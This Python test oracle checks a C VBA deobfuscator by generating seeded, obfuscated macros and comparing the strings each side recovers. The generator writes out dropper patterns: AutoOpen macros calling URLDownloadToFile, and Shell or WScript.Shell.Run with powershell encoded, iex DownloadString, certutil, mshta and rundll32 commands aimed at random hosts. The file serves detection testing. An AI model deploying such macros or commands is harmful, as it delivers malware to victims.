#!/usr/bin/env python3
"""vba_oracle.py - src/deob/vba.c against an independent Python evaluator.

Generates seeded random VBA macros that hide random URLs and command lines
behind the constructs deob_vba() folds (Chr() with arithmetic, StrReverse,
Replace, Mid/Left/Right, Split(...)(i), Join/Array, LCase/UCase, Hex/Val,
constants assigned once and read before their assignment, a Dim'd array
filled element by element, a For loop decoding an Array of offsets, simple
Functions, UserForm captions handed in as document strings), with noise
(comments, Rem, line continuations, ':' separators, decoy variables
assigned twice, If blocks).  Some cases hide one piece behind an unknown
(Environ, InputBox, a variable assigned twice, an unknown function).

The reference is this file's own evaluator (a tokenizer, a Pratt parser to
an AST, an interpreter with the same rules: a variable assigned once is a
constant, `s = s & e` accumulates inside a For loop with constant bounds).
For each sink (Shell, URLDownloadToFile's URL, .Run) it computes the
argument; it must equal the generator's plaintext (or be unknown in the
hiding cases).  The C evaluator (vba_driver prints what it recovers) must
recover exactly those strings, and must not recover a hidden plaintext.

Usage: vba_oracle.py --driver PATH [--cases N] [--seed S] [--keep DIR]
Exit 0 when every case agrees, 1 otherwise.
"""
import argparse
import json
import os
import random
import re
import string
import subprocess
import sys
import tempfile

# --- the reference evaluator ----------------------------------------------------

UNKNOWN = None


class Empty:
    """VBA's Empty: "" in a concatenation, 0 in arithmetic."""


EMPTY = Empty()

TOKEN_RE = re.compile(r"""
  (?P<ws>[ \t]+)
| (?P<nl>\r\n|\n|\r)
| (?P<colon>:(?!=))
| (?P<comment>'[^\r\n]*)
| (?P<str>"(?:[^"\r\n]|"")*")
| (?P<hex>&[Hh][0-9A-Fa-f]+&?)
| (?P<oct>&[Oo][0-7]+&?)
| (?P<num>[0-9]+)
| (?P<id>[A-Za-z][A-Za-z0-9_]*\$?)
| (?P<op><>|<=|>=|[-+*/\\^&=(),.<>])
""", re.X)


def lex(text):
    """Statements as lists of (kind, value) tokens."""
    text = re.sub(r"[ \t]_[ \t]*(\r\n|\n|\r)", " ", text)
    stmts, cur, pos = [], [], 0
    while pos < len(text):
        m = TOKEN_RE.match(text, pos)
        if m is None:
            raise ValueError("cannot lex at %r" % text[pos:pos + 20])
        pos = m.end()
        kind, val = m.lastgroup, m.group()
        if kind in ("ws", "comment"):
            continue
        if kind in ("nl", "colon"):
            if cur:
                stmts.append(cur)
            cur = []
            continue
        if kind == "id" and not cur and val.lower() == "rem":
            nl = re.compile(r"\r\n|\n|\r").search(text, pos)
            pos = nl.start() if nl else len(text)
            continue
        if kind == "str":
            cur.append(("str", val[1:-1].replace('""', '"')))
        elif kind in ("hex", "oct"):
            long_ = val.endswith("&")
            digits = val[2:-1] if long_ else val[2:]
            v = int(digits, 16 if kind == "hex" else 8)
            if not long_ and v <= 0xFFFF:
                v = v - 0x10000 if v > 0x7FFF else v
            elif v > 0x7FFFFFFF:
                v -= 1 << 32
            cur.append(("num", v))
        elif kind == "num":
            cur.append(("num", int(val)))
        elif kind == "id":
            cur.append(("id", val.rstrip("$").lower()))
        else:
            cur.append(("op", val))
    if cur:
        stmts.append(cur)
    return stmts


BINARY = {"^": 14, "*": 12, "/": 12, "\\": 11, "mod": 10, "+": 9, "-": 9, "&": 8,
          "=": 7, "<>": 7, "<": 7, ">": 7, "<=": 7, ">=": 7,
          "and": 5, "or": 4, "xor": 3}


class Parser:
    """A Pratt parser over one statement's tokens."""

    def __init__(self, toks):
        self.t, self.i = toks, 0

    def peek(self, k=0):
        return self.t[self.i + k] if self.i + k < len(self.t) else (None, None)

    def take(self):
        tok = self.peek()
        self.i += 1
        return tok

    def accept(self, kind, val):
        if self.peek() == (kind, val):
            self.i += 1
            return True
        return False

    def expr(self, minp=0):
        kind, val = self.peek()
        if (kind, val) == ("op", "-"):
            self.take()
            left = ("neg", self.expr(14))
        else:
            left = self.postfix()
        while True:
            kind, val = self.peek()
            p = BINARY.get(val) if kind in ("op", "id") else None
            if p is None or p < minp:
                return left
            self.take()
            left = ("bin", val, left, self.expr(p + 1))

    def args(self):
        out = []
        if self.accept("op", ")"):
            return out
        while True:
            out.append(self.expr())
            if self.accept("op", ")"):
                return out
            if not self.accept("op", ","):
                raise ValueError("bad argument list")

    def postfix(self):
        kind, val = self.take()
        if kind == "str":
            return ("str", val)
        if kind == "num":
            return ("num", val)
        if (kind, val) == ("op", "("):
            e = self.expr()
            self.accept("op", ")")
            return ("paren", e)
        if kind != "id":
            raise ValueError("unexpected %r" % (val,))
        node, last = ("name", val), None
        while True:
            at = self.i
            if self.accept("op", "("):
                before = node
                node = ("call", node, self.args())
                last = (at, before)
            elif self.peek() == ("op", ".") and self.peek(1)[0] == "id":
                self.take()
                node = ("dot", node, self.take()[1])
                last = None
            else:
                self.last_call = last
                return node


def fold(v):
    """A value made by an operation (strings only; marks nothing else)."""
    return v


def to_str(v):
    if isinstance(v, Empty):
        return ""
    if isinstance(v, bool):
        return None
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return v
    return None


def to_int(v):
    if isinstance(v, Empty):
        return 0
    if isinstance(v, int):
        return v
    if isinstance(v, str) and re.fullmatch(r"\s*[-+]?[0-9]+\s*", v):
        return int(v)
    return None


def chr_ansi(n):
    if n is None or n < 0 or n > 0xFFFF or 0xD800 <= n <= 0xDFFF:
        return None
    if 128 <= n < 256:
        try:
            return bytes([n]).decode("cp1252")
        except UnicodeDecodeError:
            return chr(n)
    return chr(n)


def vba_val(s):
    m = re.match(r"\s*&[Hh]([0-9A-Fa-f]+)", s)
    if m:
        v = int(m.group(1), 16)
        return v - 0x10000 if 0x7FFF < v <= 0xFFFF else v
    m = re.match(r"\s*([-+]?)([0-9]*)", s)
    if m.end() < len(s) and s[m.end()] in ".eEdD" and s[m.end() + 1:m.end() + 2].isdigit():
        return None
    n = int(m.group(2) or "0")
    return -n if m.group(1) == "-" else n


class Module:
    """One macro: its statements, counted, then run."""

    def __init__(self, text, extra):
        self.extra = extra
        self.stmts = lex(text)
        self.funcs = {}      # name -> (params, body expression tokens)
        self.count = {}      # name -> [outside, in-loop acc, in-loop other, elements, loopvar]
        self.defs = {}       # constant -> tokens of its expression
        self.consts = {}     # computed constants
        self.busy = set()
        self.seq = {}        # sequential variables' current values
        self.sinks = []      # (sink, value)
        self.scan()

    # ---- pass 1: counting

    def scan(self):
        depth, i, fn = 0, 0, None
        self.body = []       # statements outside Functions (index into self.stmts)
        while i < len(self.stmts):
            st = self.stmts[i]
            while st[0] in (("id", "private"), ("id", "public")) and len(st) > 1:
                st = st[1:]
            words = [v for k, v in st if k == "id"]
            first = st[0]
            if first == ("id", "function"):
                name = st[1][1]
                params = [v for k, v in st[3:] if k == "id" and v not in ("byval", "as", "string")]
                fn = name
                self.funcs[name] = [params, None, 0]
            elif first == ("id", "end") and len(st) > 1 and st[1] == ("id", "function"):
                fn = None
            elif fn is not None:
                if st[0] == ("id", fn) and st[1] == ("op", "="):
                    self.funcs[fn][1] = st[2:]
                    self.funcs[fn][2] += 1
                elif first != ("id", "dim"):
                    self.funcs[fn][2] += 100
            else:
                self.body.append(i)
                if first == ("id", "for"):
                    depth += 1
                    self.counter(st[1][1])[4] += 1
                elif first == ("id", "next"):
                    depth -= 1
                elif first == ("id", "const"):
                    self.counter(st[1][1])[0] += 1
                    self.defs[st[1][1]] = st[3:]
                else:
                    lhs = st[1:] if first in (("id", "set"), ("id", "let")) else st
                    if len(lhs) > 2 and lhs[0][0] == "id" and lhs[1] == ("op", "=") \
                            and words[0] not in ("attribute",):
                        c = self.counter(lhs[0][1])
                        if depth == 0:
                            c[0] += 1
                            self.defs[lhs[0][1]] = lhs[2:]
                        elif lhs[2] == lhs[0] and lhs[3:4] == [("op", "&")]:
                            c[1] += 1
                        else:
                            c[2] += 1
                    elif len(lhs) > 3 and lhs[0][0] == "id" and lhs[1] == ("op", "(") \
                            and ("op", "=") in lhs:
                        self.counter(lhs[0][1])[3] += 1
            i += 1
        for name, (params, body, n) in self.funcs.items():
            self.funcs[name] = (params, body) if n == 1 else None

    def counter(self, name):
        return self.count.setdefault(name, [0, 0, 0, 0, 0])

    def kind(self, name):
        c = self.count.get(name)
        if c is None:
            return "none"
        out, acc, other, elem, loopvar = c
        if loopvar:
            return "seq" if out <= 1 and acc == other == elem == 0 else "unknown"
        if elem:
            return "seq" if acc == 0 and other + out <= 1 else "unknown"
        if acc == other == 0:
            return "const" if out == 1 else "unknown"
        if other == 0 and out <= 1:
            return "seq"
        if other == 1 and acc == 0 and out == 0:
            return "seq"
        return "unknown"

    # ---- expressions

    def ev(self, node, env):
        t = node[0]
        if t == "str" or t == "num":
            return node[1]
        if t == "paren":
            return self.ev(node[1], env)
        if t == "neg":
            v = self.ev(node[1], env)
            return -v if isinstance(v, int) else UNKNOWN
        if t == "bin":
            return self.binop(node[1], self.ev(node[2], env), self.ev(node[3], env))
        if t == "name":
            return self.lookup(node[1], env)
        if t == "dot":
            key = self.chain_key(node)
            if key is None or self.extra is None:
                return UNKNOWN
            v = self.extra.get(key)
            if v is None and not key.endswith(".value"):
                v = self.extra.get(key + ".value")
            return v
        if t == "call":
            args = [self.ev(a, env) for a in node[2]]
            callee = node[1]
            if callee[0] == "name":
                name = callee[1]
                if name in env or self.kind(name) != "none":
                    arr = self.lookup(name, env)
                    if isinstance(arr, tuple) and len(args) == 1:
                        return self.index(arr, args[0])
                    return UNKNOWN
                if name in self.funcs:
                    f = self.funcs[name]
                    if f is None or len(f[0]) != len(args):
                        return UNKNOWN
                    return self.ev(Parser(f[1]).expr(), dict(zip(f[0], args)))
                return self.builtin(name, args)
            base = self.ev(callee, env)
            if isinstance(base, tuple) and len(args) == 1:
                return self.index(base, args[0])
            return UNKNOWN
        raise ValueError(node)

    def chain_key(self, node):
        if node[0] == "name":
            return node[1]
        if node[0] == "dot":
            k = self.chain_key(node[1])
            return None if k is None else k + "." + node[2]
        if node[0] == "call":
            k = self.chain_key(node[1])
            parts = []
            for a in node[2]:
                if a[0] == "str":
                    parts.append('"%s"' % a[1].lower())
                elif a[0] == "num":
                    parts.append(str(a[1]))
                else:
                    return None
            return None if k is None else k + "(" + ",".join(parts) + ")"
        return None

    @staticmethod
    def index(arr, i):
        lo, items = arr
        i = to_int(i)
        if i is None or not lo <= i < lo + len(items):
            return UNKNOWN
        return items[i - lo]

    def lookup(self, name, env):
        if name in env:
            return env[name]
        k = self.kind(name)
        if k == "seq":
            return self.seq.get(name, EMPTY)
        if k == "const":
            if name not in self.consts:
                if name in self.busy:
                    return UNKNOWN
                self.busy.add(name)
                self.consts[name] = self.ev(Parser(self.defs[name]).expr(), {})
            return self.consts[name]
        if k == "unknown":
            return UNKNOWN
        if name in self.funcs and self.funcs[name] is not None and not self.funcs[name][0]:
            return self.ev(Parser(self.funcs[name][1]).expr(), {})
        consts = {"vbcrlf": "\r\n", "vbtab": "\t", "vbunicode": 64, "vbfromunicode": 128}
        if name in consts:
            return consts[name]
        if self.extra is not None and name in self.extra:
            return self.extra[name]
        return UNKNOWN

    @staticmethod
    def binop(op, a, b):
        if a is UNKNOWN or b is UNKNOWN:
            return UNKNOWN
        if op == "&" or (op == "+" and isinstance(a, (str, Empty)) and isinstance(b, (str, Empty))
                         and not (isinstance(a, Empty) and isinstance(b, Empty))):
            x, y = to_str(a), to_str(b)
            return UNKNOWN if x is None or y is None else x + y
        if isinstance(a, str) or isinstance(b, str):
            if op in ("+",) or op in BINARY and BINARY[op] == 7:
                return UNKNOWN
        x, y = to_int(a), to_int(b)
        if x is None or y is None:
            return UNKNOWN
        if op == "+":
            return x + y
        if op == "-":
            return x - y
        if op == "*":
            return x * y
        if op == "mod":
            return UNKNOWN if y == 0 else int(abs(x) % abs(y)) * (1 if x >= 0 else -1)
        if op == "\\":
            return UNKNOWN if y == 0 else int(x / y)
        if op == "xor":
            return x ^ y
        return UNKNOWN

    def builtin(self, name, a):
        if any(v is UNKNOWN for v in a):
            return UNKNOWN
        n = len(a)
        s = to_str(a[0]) if n else None
        if name in ("chr", "chrw", "chrb") and n == 1:
            return chr_ansi(to_int(a[0]))
        if name in ("asc", "ascw") and n == 1 and s:
            return ord(s[0])
        if name == "strreverse" and n == 1 and s is not None:
            return s[::-1]
        if name == "replace" and n == 3 and None not in (s, to_str(a[1]), to_str(a[2])):
            return s.replace(to_str(a[1]), to_str(a[2])) if to_str(a[1]) else s
        if name in ("mid", "midb") and n in (2, 3) and s is not None:
            st = to_int(a[1])
            ln = to_int(a[2]) if n == 3 else len(s)
            if st is None or st < 1 or ln is None or ln < 0:
                return UNKNOWN
            return s[st - 1:st - 1 + ln]
        if name in ("left", "right") and n == 2 and s is not None:
            k = to_int(a[1])
            if k is None or k < 0:
                return UNKNOWN
            return s[:k] if name == "left" else (s[len(s) - k:] if k else "")
        if name == "lcase" and n == 1 and s is not None:
            return "".join(c.lower() if c.isascii() else c for c in s)
        if name == "ucase" and n == 1 and s is not None:
            return "".join(c.upper() if c.isascii() else c for c in s)
        if name == "split" and n in (1, 2) and s is not None:
            d = to_str(a[1]) if n == 2 else " "
            if d is None:
                return UNKNOWN
            return (0, [] if s == "" else (s.split(d) if d else [s]))
        if name == "join" and n in (1, 2) and isinstance(a[0], tuple):
            d = to_str(a[1]) if n == 2 else " "
            parts = [to_str(x) for x in a[0][1]]
            return UNKNOWN if d is None or None in parts else d.join(parts)
        if name == "array":
            return (0, list(a))
        if name == "hex" and n == 1 and to_int(a[0]) is not None and to_int(a[0]) >= 0:
            return "%X" % to_int(a[0])
        if name == "val" and n == 1 and s is not None:
            return vba_val(s)
        if name == "cstr" and n == 1:
            return s
        if name in ("cint", "clng") and n == 1:
            return to_int(a[0])
        if name == "ubound" and n == 1 and isinstance(a[0], tuple):
            return a[0][0] + len(a[0][1]) - 1
        if name == "lbound" and n == 1 and isinstance(a[0], tuple):
            return a[0][0]
        if name == "len" and n == 1 and isinstance(a[0], str):
            return len(a[0])
        return UNKNOWN

    # ---- pass 2: the run

    def run(self):
        body = [self.stmts[i] for i in self.body]
        loops, pc = [], 0
        steps = 0
        while pc < len(body):
            steps += 1
            if steps > 200000:
                raise RuntimeError("runaway")
            st = body[pc]
            head = st[0]
            nxt = pc + 1
            if head == ("id", "for"):
                p = Parser(st[3:])
                a = to_int(self.ev(p.expr(), {}))
                p.accept("id", "to")
                b = to_int(self.ev(p.expr(), {}))
                step = to_int(self.ev(p.expr(), {})) if p.accept("id", "step") else 1
                var = st[1][1]
                nest, end = 0, pc + 1
                while True:
                    h = body[end][0]
                    if h == ("id", "for"):
                        nest += 1
                    elif h == ("id", "next"):
                        if nest == 0:
                            break
                        nest -= 1
                    end += 1
                if None in (a, b, step) or step == 0:
                    raise ValueError("the generator makes constant loops only")
                self.seq[var] = a
                if (a > b) if step > 0 else (a < b):
                    nxt = end + 1
                else:
                    loops.append((pc, var, b, step))
            elif head == ("id", "next"):
                start, var, b, step = loops[-1]
                v = self.seq[var] + step
                self.seq[var] = v
                if (v <= b) if step > 0 else (v >= b):
                    nxt = start + 1
                else:
                    loops.pop()
            elif head == ("id", "dim"):
                if len(st) > 3 and st[2] == ("op", "(") and st[3][0] == "num" and \
                        self.kind(st[1][1]) == "seq":
                    self.seq[st[1][1]] = (0, [EMPTY] * (st[3][1] + 1))
            else:
                self.statement(st)
            pc = nxt

    def statement(self, st):
        words = st[0][1]
        if st[0][0] != "id" or words in ("sub", "end", "const", "attribute", "on", "if",
                                         "msgbox", "dim", "private", "public"):
            return
        lhs = st[1:] if words in ("set", "let") else st
        if len(lhs) > 2 and lhs[1] == ("op", "="):
            name = lhs[0][1]
            if self.kind(name) == "seq":
                self.seq[name] = self.ev(Parser(lhs[2:]).expr(), {})
            return
        if lhs[1] == ("op", "(") and ("op", "=") in lhs:
            name = lhs[0][1]
            p = Parser(lhs[2:])
            i = to_int(self.ev(p.expr(), {}))
            p.accept("op", ")")
            p.accept("op", "=")
            v = self.ev(p.expr(), {})
            arr = self.seq.get(name)
            if isinstance(arr, tuple) and i is not None and 0 <= i - arr[0] < len(arr[1]):
                arr[1][i - arr[0]] = v
            return
        # a call statement: callee chain, then arguments
        p = Parser(st)
        callee = p.postfix()
        kind, val = p.peek()
        if kind == "op" and val != "," and p.last_call is not None:
            # Shell (a) & b: the parentheses belong to the first argument
            p.i, callee = p.last_call
        args = []
        if p.peek()[0] is not None:
            args.append(p.expr())
            while p.accept("op", ","):
                args.append(p.expr())
        sink = None
        if callee == ("name", "shell"):
            sink = ("Shell", 0)
        elif callee == ("name", "urldownloadtofile"):
            sink = ("URLDownloadToFile", 1)
        elif callee[0] == "dot" and callee[2] == "run":
            sink = ("Run", 0)
        if sink is not None:
            v = self.ev(args[sink[1]], {})
            self.sinks.append((sink[0], v if isinstance(v, str) else None))


def reference(text, extra):
    m = Module(text, extra)
    m.run()
    return m.sinks


# --- the generator -------------------------------------------------------------

class Gen:
    def __init__(self, rnd):
        self.r = rnd
        self.names = set()
        self.pre = []        # statements before the sink (in Sub AutoOpen)
        self.late = []       # constants defined in a later Sub
        self.funcs = []      # Function definitions
        self.extra = {}

    def name(self):
        while True:
            n = "".join(self.r.choice(string.ascii_letters) for _ in range(self.r.randint(4, 9)))
            if n.lower() not in self.names and n.lower() not in RESERVED:
                self.names.add(n.lower())
                return n

    def lit(self, s):
        return '"' + s.replace('"', '""') + '"'

    def chr_expr(self, ch):
        n = ord(ch)
        r = self.r
        f = r.choice(["Chr", "ChrW", "Chr$"])
        k = r.randint(1, 60)
        form = r.randint(0, 6)
        if form == 0:
            return "%s(%d)" % (f, n)
        if form == 1:
            return "%s(%d - %d)" % (f, n + k, k)
        if form == 2:
            return "%s(%d + %d)" % (f, n - k, k)
        if form == 3:
            a = r.randint(2, 9)
            return "%s(%d * %d + %d)" % (f, n // a, a, n % a)
        if form == 4:
            return "%s(&H%X)" % (f, n)
        if form == 5:
            return "%s(%d Mod 256)" % (f, n + 256 * r.randint(1, 9))
        return "%s(%d Xor %d)" % (f, n ^ k, k)

    def piece(self, s, depth=0):
        """An expression whose value is s."""
        r = self.r
        if s == "":
            return '""'
        form = r.randint(0, 14 if depth == 0 else 9)
        if form == 0:
            return self.lit(s)
        if form == 1:
            return " & ".join(self.chr_expr(c) for c in s)
        if form == 2:
            return "StrReverse(%s)" % self.lit(s[::-1])
        if form == 3:
            junk = r.choice(["XZQ", "@@", "#!#", "qqz"])
            cut = r.randint(0, len(s))
            return "Replace(%s, %s, \"\")" % (self.lit(s[:cut] + junk + s[cut:] + junk), self.lit(junk))
        if form == 4:
            pad = "".join(r.choice("xyzXYZ019") for _ in range(r.randint(1, 6)))
            tail = "".join(r.choice("xyz") for _ in range(r.randint(0, 4)))
            if r.random() < 0.5 or not tail:
                return "Mid(%s, %d, %d)" % (self.lit(pad + s + tail), len(pad) + 1, len(s))
            return "Mid$(%s, %d)" % (self.lit(pad + s), len(pad) + 1)
        if form == 5:
            tail = "".join(r.choice("xyz") for _ in range(r.randint(1, 4)))
            if r.random() < 0.5:
                return "Left(%s, %d)" % (self.lit(s + tail), len(s))
            return "Right(%s, %d)" % (self.lit(tail + s), len(s))
        if form == 6:
            parts = ["".join(r.choice("abcdef") for _ in range(3)) for _ in range(r.randint(1, 4))]
            i = r.randint(0, len(parts))
            parts.insert(i, s)
            d = r.choice(["|", "~~", ";"])
            if any(d in p for p in parts):
                return self.lit(s)
            return "Split(%s, %s)(%d)" % (self.lit(d.join(parts)), self.lit(d), i)
        if form == 7:
            cuts = sorted(r.sample(range(1, len(s)), min(len(s) - 1, r.randint(1, 3)))) if len(s) > 1 else []
            parts = [s[a:b] for a, b in zip([0] + cuts, cuts + [len(s)])]
            return "Join(Array(%s), \"\")" % ", ".join(self.lit(p) for p in parts)
        if form == 8:
            if s.lower() == s and s.upper() != s:
                return "LCase(%s)" % self.lit(s.upper())
            if s.upper() == s and s.lower() != s:
                return "UCase(%s)" % self.lit(s.lower())
            return "CStr(%s)" % self.lit(s)
        if form == 9:
            if len(s) == 1:
                return "Chr(Val(\"&H%X\"))" % ord(s)
            return "(%s)" % self.piece(s, depth + 1)
        # forms with statements
        if form == 10:     # a constant, maybe defined in a later Sub
            v = self.name()
            where = self.late if r.random() < 0.4 else self.pre
            kw = r.choice(["", "Const "]) if where is self.pre else ""
            where.append("%s%s = %s" % (kw, v, self.piece(s, depth + 1)))
            return v
        if form == 11:     # a loop decoding offsets
            k, i, acc = self.name(), self.name(), self.name()
            off = r.randint(1, 20)
            self.pre.append("Dim %s As String" % acc)
            self.pre.append("%s = Array(%s)" % (k, ", ".join(str(ord(c) + off) for c in s)))
            self.pre.append("For %s = LBound(%s) To UBound(%s)" % (i, k, k))
            self.pre.append("    %s = %s & Chr(%s(%s) - %d)" % (acc, acc, k, i, off))
            self.pre.append("Next " + r.choice(["", i]))
            return acc
        if form == 12:     # a user Function
            f, p = self.name(), self.name()
            how = r.choice(["rev", "mid"])
            if how == "rev":
                self.funcs.append("Function %s(%s): %s = StrReverse(%s): End Function" % (f, p, f, p))
                return "%s(%s)" % (f, self.lit(s[::-1]))
            self.funcs.append("Private Function %s(ByVal %s As String) As String\n"
                              "    %s = Mid(%s, 3)\nEnd Function" % (f, p, f, p))
            return "%s(%s)" % (f, self.lit("zq" + s))
        if form == 13:     # a document string
            form_, ctl = "UserForm%d" % r.randint(1, 3), self.name()
            prop = r.choice(["Caption", "Text", "Tag"])
            self.extra[("%s.%s.%s" % (form_, ctl, prop)).lower()] = s
            return "%s.%s.%s" % (form_, ctl, prop)
        # an array filled element by element, joined
        a = self.name()
        cuts = sorted(r.sample(range(1, len(s)), min(len(s) - 1, 2))) if len(s) > 1 else []
        parts = [s[x:y] for x, y in zip([0] + cuts, cuts + [len(s)])]
        self.pre.append("Dim %s(%d)" % (a, len(parts) - 1))
        for j, p in enumerate(parts):
            self.pre.append("%s(%d) = %s" % (a, j, self.piece(p, depth + 1)))
        return "Join(%s, \"\")" % a

    def hidden(self):
        """An expression whose value the evaluators cannot know."""
        r = self.r
        form = r.randint(0, 3)
        if form == 0:
            return "Environ(\"TEMP\")"
        if form == 1:
            return "InputBox(\"x\")"
        if form == 2:
            v = self.name()
            self.pre.append("%s = \"abc\"" % v)
            self.pre.append("%s = \"def\"" % v)
            return v
        return "%s(\"q\")" % self.name()

    def expr_for(self, s, hide):
        cuts = sorted(self.r.sample(range(1, len(s)), self.r.randint(1, 4)))
        parts = [s[a:b] for a, b in zip([0] + cuts, cuts + [len(s)])]
        exprs = [self.piece(p) for p in parts]
        if hide:
            exprs[self.r.randrange(len(exprs))] = self.hidden()
        # a long expression is continued on the next line
        out = exprs[0]
        for e in exprs[1:]:
            out += (" _\n        & " if self.r.random() < 0.2 else " & ") + e
        return out

    def noise(self):
        r = self.r
        form = r.randint(0, 6)
        if form == 0:
            return "' " + "".join(r.choice(string.ascii_letters + " ") for _ in range(20))
        if form == 1:
            return "Rem " + self.lit("nothing")
        if form == 2:
            d = self.name()
            return "%s = %d: %s = %s & \"x\"" % (d, r.randint(0, 9), d, d)
        if form == 3:
            return "If %s = 1 Then\n    MsgBox \"ok\"\nEnd If" % self.name()
        if form == 4:
            return "Dim %s As Long, %s" % (self.name(), self.name())
        if form == 5:
            return "On Error Resume Next"
        return "MsgBox %s" % self.lit("Enable content")


RESERVED = {"chr", "chrw", "asc", "mid", "left", "right", "split", "join", "array", "val", "hex",
            "cstr", "cint", "clng", "lcase", "ucase", "len", "replace", "strreverse", "shell",
            "dim", "for", "next", "to", "step", "if", "then", "else", "end", "sub", "function",
            "const", "set", "let", "call", "mod", "xor", "and", "or", "not", "rem", "as", "each",
            "in", "do", "loop", "while", "wend", "with", "select", "case", "private", "public",
            "static", "byval", "byref", "string", "long", "msgbox", "environ", "inputbox", "exit",
            "on", "error", "resume", "goto", "new", "is", "like", "empty", "null", "nothing",
            "true", "false", "attribute", "option", "redim", "erase", "input", "line", "type",
            "enum", "declare", "global", "friend", "property", "lbound", "ubound", "space",
            "trim", "ltrim", "rtrim", "strconv", "ascw", "chrb", "ascb", "midb", "fix", "int",
            "abs", "cbyte", "oct", "until", "elseif", "optional", "paramarray", "imp", "eqv",
            "vbcrlf", "vbtab", "vbcr", "vblf", "vbunicode", "vbfromunicode", "vbnewline",
            "vbhide", "vbmethod", "vbget", "vblet", "vbset", "vbnullstring", "vbnullchar",
            "vbuppercase", "vblowercase", "vbtextcompare", "vbbinarycompare", "vbnormalfocus",
            "clnglng", "string", "wscript", "createobject", "urldownloadtofile", "userform1",
            "userform2", "userform3", "caption", "text", "tag", "run", "autoopen", "later"}


def random_url(r):
    host = "".join(r.choice(string.ascii_lowercase + string.digits) for _ in range(r.randint(3, 12)))
    tld = r.choice(["com", "net", "example", "xyz", "ru", "top"])
    path = "/".join("".join(r.choice(string.ascii_letters + string.digits + "_-")
                            for _ in range(r.randint(1, 8))) for _ in range(r.randint(1, 3)))
    return "%s://%s.%s/%s%s" % (r.choice(["http", "https"]), host, tld, path,
                                r.choice([".exe", ".dll", ".php?id=%d" % r.randint(1, 999), ""]))


def random_cmd(r, url):
    return r.choice([
        "powershell -w hidden -enc " + "".join(r.choice(string.ascii_letters + string.digits + "+/")
                                               for _ in range(r.randint(8, 40))),
        "cmd /c certutil -urlcache -f %s %%TEMP%%\\a.exe" % url,
        "powershell -nop -c \"iex (New-Object Net.WebClient).DownloadString('%s')\"" % url,
        "mshta %s" % url,
        "rundll32 C:\\Users\\Public\\%d.dll,DllRegisterServer" % r.randint(1, 9999),
    ])


def generate(seed):
    """(macro text, extra, [(sink, plaintext or None)])."""
    r = random.Random(seed)
    g = Gen(r)
    url = random_url(r)
    cmd = random_cmd(r, url)
    hide = r.random() < 0.25
    which = r.randrange(2) if hide else -1
    expected = []
    sinks = []
    url_expr = g.expr_for(url, which == 0)
    cmd_expr = g.expr_for(cmd, which == 1)
    for _ in range(r.randint(0, 4)):
        g.pre.insert(r.randint(0, len(g.pre)), g.noise())
    u = g.name()
    sinks.append('%s = %s' % (u, url_expr))
    sinks.append('URLDownloadToFile 0, %s, Environ("TEMP") & "\\a.exe", 0, 0' % u)
    expected.append(("URLDownloadToFile", None if which == 0 else url))
    style = r.randint(0, 2)
    if style == 0:
        sinks.append("Shell %s, %d" % (cmd_expr, r.choice([0, 1])))
        expected.append(("Shell", None if which == 1 else cmd))
    elif style == 1:
        o = g.name()
        sinks.append('Set %s = CreateObject("WScript.Shell")' % o)
        sinks.append("%s.Run %s, 0" % (o, cmd_expr))
        expected.append(("Run", None if which == 1 else cmd))
    else:
        sinks.append('CreateObject("WScript.Shell").Run %s, 0, False' % cmd_expr)
        expected.append(("Run", None if which == 1 else cmd))
    lines = ['Attribute VB_Name = "Module%d"' % r.randint(1, 9)]
    if r.random() < 0.5:
        lines += g.funcs
        g.funcs = []
    lines.append("Sub AutoOpen()")
    lines += ["    " + x for x in g.pre + sinks]
    lines.append("End Sub")
    lines += g.funcs
    if g.late:
        lines.append("Sub Later()")
        lines += ["    " + x for x in g.late]
        lines.append("End Sub")
    sep = "\r\n" if r.random() < 0.5 else "\n"
    return sep.join(lines) + sep, g.extra, expected


# --- the comparison ---------------------------------------------------------------

def run_driver(driver, text, extra, tmp):
    src = os.path.join(tmp, "macro.vba")
    with open(src, "w", encoding="utf-8", newline="") as f:
        f.write(text)
    cmd = [driver, src]
    if extra:
        ex = os.path.join(tmp, "extra.txt")
        with open(ex, "w", encoding="utf-8") as f:
            for k, v in extra.items():
                f.write("%s\t%s\n" % (k, v))
        cmd.append(ex)
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=30, check=True).stdout
    vals, limit = [], None
    for line in out.splitlines():
        o = json.loads(line)
        if "limit" in o:
            limit = o["limit"]
        else:
            vals.append(o["value"])
    return vals, limit


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--driver", required=True)
    ap.add_argument("--cases", type=int, default=300)
    ap.add_argument("--seed", type=int, default=18)
    ap.add_argument("--keep", help="write failing macros here")
    args = ap.parse_args()

    failures = checked = hidden = 0
    with tempfile.TemporaryDirectory() as tmp:
        for case in range(args.cases):
            seed = args.seed * 100003 + case
            text, extra, expected = generate(seed)
            problems = []
            try:
                ref = reference(text, extra)
            except Exception as e:      # the reference must handle every case
                ref = None
                problems.append("reference failed: %r" % e)
            if ref is not None:
                if [s for s, _ in ref] != [s for s, _ in expected]:
                    problems.append("reference sinks %r, want %r" % (ref, expected))
                for (sink, want), (_, got) in zip(expected, ref):
                    if got != want:
                        problems.append("reference %s: %r, generator %r" % (sink, got, want))
            vals, limit = run_driver(args.driver, text, extra, tmp)
            if limit is not None:
                problems.append("limit %s" % limit)
            for (sink, want) in expected:
                if want is not None:
                    checked += 1
                    if want not in vals:
                        problems.append("C misses the %s argument %r" % (sink, want))
            # the hidden plaintext must not be recovered
            r = random.Random(seed)
            url = random_url(r)
            cmd = random_cmd(r, url)
            for (sink, want), plain in zip(expected, [url, cmd]):
                if want is None:
                    hidden += 1
                    if plain in vals:
                        problems.append("C recovers the hidden %s argument %r" % (sink, plain))
            if problems:
                failures += 1
                print("case %d (seed %d):" % (case, seed))
                for p in problems:
                    print("  " + p)
                print("  C: %r" % vals)
                if args.keep:
                    os.makedirs(args.keep, exist_ok=True)
                    with open(os.path.join(args.keep, "case%d.vba" % case), "w") as f:
                        f.write(text)
                if failures > 20:
                    break
    print("vba_oracle: %d cases, %d sink arguments expected, %d hidden ones checked, %d failing"
          % (args.cases, checked, hidden, failures))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
